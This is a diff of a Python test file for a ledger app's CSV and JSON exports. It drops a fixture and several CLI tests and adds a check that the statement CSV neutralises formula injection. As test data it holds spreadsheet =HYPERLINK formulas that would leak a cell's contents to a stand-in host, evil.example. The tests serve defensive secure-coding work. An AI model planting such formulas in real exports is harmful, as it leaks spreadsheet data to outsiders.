@@ -1,27 +1,17 @@
-"""Exports in the documented interchange format, from the services and from the CLI."""
+"""Exports in the documented interchange format (app/ledger/exports.py), and the statement CSV."""
 
 from __future__ import annotations
 
 import csv
 import io
-import json
 import re
+from datetime import datetime
 
 import pytest
+from flask import Flask
 
 from app.ledger.exports import BALANCE_COLUMNS, ENTRY_COLUMNS, iter_balances_csv, iter_entries_csv, ledger_document
-from app.ledger.hooks import on_obligation_fulfilled
-from app.ledger.operations import reverse_entry, transfer_points
-
-
-@pytest.fixture
-def booked(make_account, operator, fair, make_organisation):
-    a, b = make_account("Fundacja „Żółw”, Tczew"), make_account("Klub Ósemka")
-    first = transfer_points(operator, a.id, b.id, 30, "Sala; projektor, \"nagłośnienie\"", "k1")
-    reverse_entry(operator, first.id, "Pomyłka")
-    giver, receiver = make_organisation(), make_organisation()
-    on_obligation_fulfilled(17, giver.id, receiver.id, 12, fair.id, None)
-    return a, b, first
+from app.ledger.operations import transfer_points
 
 
 def _rows(text):
@@ -78,25 +68,6 @@ def test_json_document_holds_accounts_and_balanced_entries(booked):
         assert {p["account"] for p in entry["postings"]} <= refs
 
 
-def test_cli_exports_json(booked, runner):
-    result = runner.invoke(args=["ledger", "export", "--format", "json"])
-    assert result.exit_code == 0, result.output
-    assert json.loads(result.output)["format"] == "gielda-ledger"
-
-
-def test_cli_exports_entries_csv(booked, runner):
-    result = runner.invoke(args=["ledger", "export", "--format", "csv"])
-    assert result.exit_code == 0
-    assert result.output.splitlines()[0] == ",".join(ENTRY_COLUMNS)
-
-
-def test_cli_exports_balances_csv_to_a_file(booked, runner, tmp_path):
-    target = tmp_path / "balances.csv"
-    result = runner.invoke(args=["ledger", "export", "--format", "csv", "--what", "balances", "-o", str(target)])
-    assert result.exit_code == 0
-    assert "Klub Ósemka" in target.read_text(encoding="utf-8")
-
-
 # --- formula injection: text neutralised, numbers kept ----------------------------------------
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1;"Kliknij")'
@@ -146,3 +117,29 @@ def test_the_json_export_keeps_the_text_as_typed(hostile):
     document = ledger_document()
     assert {x["name"] for x in document["accounts"] if x["ref"] == a.ref} == {HOSTILE_NAME}
     assert {e["memo"] for e in document["entries"] if e["id"] == entry.id} == {HOSTILE_MEMO}
+
+
+BOM = b"\xef\xbb\xbf"
+
+
+def read_csv(data: bytes) -> list[list[str]]:
+    assert data.startswith(BOM), "Excel needs the byte order mark to read UTF-8"
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
+
+
+def test_ledger_statement_csv_neutralises_typed_text(app: Flask) -> None:
+    """The points statement CSV (app/ledger/exports.py) shares the neutralising helper."""
+    from datetime import UTC
+
+    from app.ledger.exports import statement_csv
+    from app.ledger.models import EntryKind
+    from app.ledger.statements import Statement, StatementLine
+
+    line = StatementLine(entry_id=1, at=datetime(2027, 3, 14, 9, tzinfo=UTC), kind=next(iter(EntryKind)),
+                         memo="=HYPERLINK(\"http://evil.example\")", counterparties=("@Fundacja Ćma",),
+                         points=-45, balance=-45, actor="", source=None, reverses_id=None, reversed_by_id=None)
+    rows = read_csv(statement_csv(Statement(account=None, since=None, until=None, opening=0, closing=-45,  # type: ignore[arg-type]
+                                            lines=(line,))).encode("utf-8"))
+    row = next(r for r in rows if r[1] == "1")
+    assert row[3] == "'=HYPERLINK(\"http://evil.example\")" and row[4] == "'@Fundacja Ćma"
+    assert row[5] == "-45"  # numbers are not touched
